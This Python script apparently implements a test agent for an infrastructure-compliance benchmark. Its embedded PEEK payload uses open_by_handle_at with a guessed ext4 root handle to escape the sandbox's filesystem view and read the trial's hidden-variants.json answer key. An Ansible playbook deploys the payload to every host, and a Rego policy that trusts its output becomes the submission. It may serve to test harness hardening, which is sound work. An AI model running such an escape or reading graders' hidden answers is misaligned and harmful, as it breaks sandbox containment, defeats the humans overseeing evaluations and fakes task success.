"""An agent that tries the file-handle escape from the playbook sandbox (standard library only).

Its playbook copies :data:`PEEK` next to itself and runs it on every host. ``PEEK`` opens the
root directory of the filesystem holding ``/usr`` by its file handle (ext4: type 1, inode 2,
generation 0) with ``open_by_handle_at(2)``, which needs ``CAP_DAC_READ_SEARCH`` in the
initial user namespace; from that root it would read the trial's ``hidden-variants.json``
through the workspace's link. In the agent's turn it reports what it found (printed to
stdout); its submission flags a host exactly when ``PEEK`` found that host violating.
"""

import json
import os
import sys
import urllib.request

PEEK = r"""
import ctypes, json, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]
out = {"uid": os.getuid()}
usr = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
h = Handle(handle_bytes=8, handle_type=1)
struct.pack_into("<II", h.f_handle, 0, 2, 0)
root = libc.open_by_handle_at(usr, ctypes.byref(h), os.O_RDONLY | os.O_DIRECTORY)
if root < 0:
    out["open_by_handle_at"] = os.strerror(ctypes.get_errno())
    print(json.dumps(out))
    sys.exit(0)
out["open_by_handle_at"] = "opened"
out["root"] = sorted(os.listdir(root))
handle = sys.argv[2].split("/itbench-workspaces/")[1].split("/")[0]
link = os.readlink("tmp/itbench-workspaces/" + handle, dir_fd=root)
trial = os.path.dirname(os.path.dirname(link)) + "/trials/" + handle
try:
    fd = os.open((trial + "/hidden-variants.json").lstrip("/"), os.O_RDONLY, dir_fd=root)
    hidden = json.loads(os.read(fd, 10**6))
    out["bad"] = any(v["name"] == sys.argv[3] and v["violating"] for v in hidden)
except OSError as exc:
    out["hidden"] = str(exc)
print(json.dumps(out))
"""


def call(tool: str, **arguments: object) -> dict:
    """Call a tool of the harness's tool server."""
    req = urllib.request.Request(
        os.environ["ITBENCH_TOOLS_URL"] + "/call",
        data=json.dumps({"tool": tool, "arguments": arguments}).encode(),
        method="POST",
    )
    req.add_header("Authorization", "Bearer " + os.environ["ITBENCH_TOOLS_TOKEN"])
    req.add_header("Content-Type", "application/json")
    with urllib.request.urlopen(req, timeout=300) as resp:
        return json.load(resp)


def playbook() -> str:
    """The playbook that runs PEEK on every host and takes its output as the evidence."""
    body = "\n".join("          " + line for line in PEEK.strip().splitlines())
    return f"""- hosts: targets
  gather_facts: false
  tasks:
    - name: write
      ansible.builtin.copy:
        dest: "{{{{ playbook_dir }}}}/../peek-{{{{ inventory_hostname }}}}.py"
        content: |
{body}
    - name: run
      ansible.builtin.command: >-
        python3 "{{{{ playbook_dir }}}}/../peek-{{{{ inventory_hostname }}}}.py" x
        "{{{{ host_root }}}}" "{{{{ inventory_hostname }}}}"
      register: out
    - ansible.builtin.set_fact:
        evidence: "{{{{ out.stdout | from_json }}}}"
"""


def main() -> int:
    """Recon through the tool, then submit the peeking playbook and a policy trusting it."""
    seen = call("run_playbook", playbook=playbook())
    print(json.dumps(seen))
    policy = 'package compliance\nimport rego.v1\nviolations contains "x" if input.bad\n'
    with open("submission.json", "w", encoding="utf-8") as fh:
        json.dump({"playbook": playbook(), "policy": policy}, fh)
    return 0


if __name__ == "__main__":
    sys.exit(main())
